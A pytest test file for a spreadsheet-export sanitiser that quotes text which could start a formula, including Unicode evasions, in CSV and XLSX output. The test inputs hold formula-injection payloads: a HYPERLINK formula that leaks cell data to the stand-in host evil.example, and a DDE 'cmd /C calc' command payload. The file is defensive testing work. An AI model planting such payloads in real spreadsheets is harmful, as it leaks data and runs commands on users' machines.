"""The one rule for spreadsheet cells: text that would start a formula opens as text, with a quote
in front; numbers stay numbers; nothing else changes."""

import csv
import io
import json
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from levelfield.core import spreadsheets
from levelfield.core.spreadsheets import safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+44 20 7946 0000",  # a phone number: a spreadsheet would evaluate 44 20 ...
        "-1+1",
        "-",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",  # after leading whitespace
        "   =1+1",
        "\u00a0@SUM(A1)",  # a no-break space is whitespace too
        "\x01=1+1",  # a control character an import may drop
        "\ufeff=1+1",  # a byte order mark
        "\u200b@SUM(A1)",  # a zero-width space
        "＝1+1",  # full-width equals sign
        "-12.50 per hour",
        # Every invisible format character counts like the zero-width space, not only some:
        "\u00ad=1+1",  # a soft hyphen
        "\u202e=1+1",  # a right-to-left override
        "\u2066@SUM(A1)",  # a left-to-right isolate
        "\u061c=1+1",  # an Arabic letter mark
        "\U000e0001=1+1",  # a language tag
        # A sign before digits a spreadsheet does not read as a number is not a plain number:
        "-\u0661\u0662",  # Arabic-Indic digits
        "+\U0001d7cf",  # a mathematical bold digit
    ],
)
def test_text_that_could_start_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["Acorn Care Ltd", "", "12", "-12.50", "+3", "1e6", "-.5", "2026-06-05", "a=b", "O'Neil"],
)
def test_ordinary_text_and_plain_numbers_are_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "value", [None, -5, Decimal("-12.50"), -0.5, True, date(2026, 6, 5)]
)
def test_numbers_dates_and_empty_cells_are_written_as_they_are(value):
    assert safe_cell(value) is value


def test_other_objects_are_written_as_safe_text():
    class Name:
        def __str__(self):
            return "=1+1"

    assert safe_cell(Name()) == "'=1+1"


def test_quoting_twice_changes_nothing():
    once = safe_cell("=1+1")
    assert safe_cell(once) == once == "'=1+1"


def test_the_csv_writer_makes_every_cell_safe():
    out = io.StringIO()
    writer = spreadsheets.csv_writer(out, lineterminator="\n")
    writer.writerow(["=1+1", -5, "-5", None, "Acorn"])
    writer.writerows([["@A1"], ["plain"]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "-5", "-5", "", "Acorn"],
        ["'@A1"],
        ["plain"],
    ]


@pytest.fixture
def package(tmp_path):
    """A JSON package with a formula in a plain field, in a list of text that flattentool
    joins into one cell, in a nested list that becomes its own sheet, and plain numbers."""
    path = tmp_path / "package.json"
    releases = [
        {
            "ocid": "ocds-1",
            "id": "1",
            "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            "tag": ["-5", "=2+3"],
            "value": {"amount": -12.5},
            "parties": [
                {"id": "p1", "name": "@SUM(1+1)*cmd|' /C calc'!A0"},
                {"id": "p2", "name": "Acorn Care Ltd", "phone": "-42"},
            ],
        }
    ]
    path.write_text(json.dumps({"releases": releases}))
    return path


def flatten(package, directory):
    return spreadsheets.flatten(
        package,
        xlsx=directory / "out.xlsx",
        csv_directory=directory / "csv",
        main_sheet_name="releases",
        root_list_path="releases",
        root_id="ocid",
    )


def test_a_flattened_workbook_holds_no_formula_and_keeps_numbers(package, tmp_path):
    flatten(package, tmp_path)

    workbook = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert workbook.sheetnames == ["releases", "parties"]
    every = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in every if c.data_type == "f"] == []
    releases = workbook["releases"]
    cells = {releases.cell(1, c.column).value: c for c in releases[2]}
    title = cells["title"]
    assert (title.value, title.data_type) == (
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "s",
    )
    assert cells["tag"].value == "'-5;=2+3"
    amount = cells["value/amount"]
    assert (amount.value, amount.data_type) == (-12.5, "n")
    names = [row[3] for row in workbook["parties"].iter_rows(min_row=2, values_only=True)]
    assert names == ["'@SUM(1+1)*cmd|' /C calc'!A0", "Acorn Care Ltd"]


def test_flattened_csv_files_hold_no_formula(package, tmp_path):
    sheets = flatten(package, tmp_path)

    assert [s.name for s in sheets] == ["parties.csv", "releases.csv"]
    rows = {s.name: list(csv.DictReader(s.open(newline=""))) for s in sheets}
    assert rows["releases.csv"][0]["title"] == (
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    )
    assert rows["releases.csv"][0]["tag"] == "'-5;=2+3"
    assert rows["releases.csv"][0]["value/amount"] == "-12.5"
    assert [r["parties/0/name"] for r in rows["parties.csv"]] == [
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "Acorn Care Ltd",
    ]
    assert rows["parties.csv"][1]["parties/0/phone"] == "-42"  # a plain number, left alone
    assert sheets[0].read_bytes().count(b"\r\n") == 3  # lines end as flattentool ends them
    assert sorted(p.name for p in (tmp_path / "csv").iterdir()) == ["parties.csv", "releases.csv"]


def test_control_characters_xml_cannot_hold_are_dropped_from_the_workbook(tmp_path):
    package = tmp_path / "package.json"
    releases = [{"ocid": "o", "id": "1", "title": "A\u0001B", "name": "\u0001=1+1"}]
    package.write_text(json.dumps({"releases": releases}))

    flatten(package, tmp_path)

    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx")["releases"]
    assert list(sheet.values) == [("ocid", "id", "title", "name"), ("o", "1", "AB", "'=1+1")]
    assert sheet["D2"].data_type == "s"
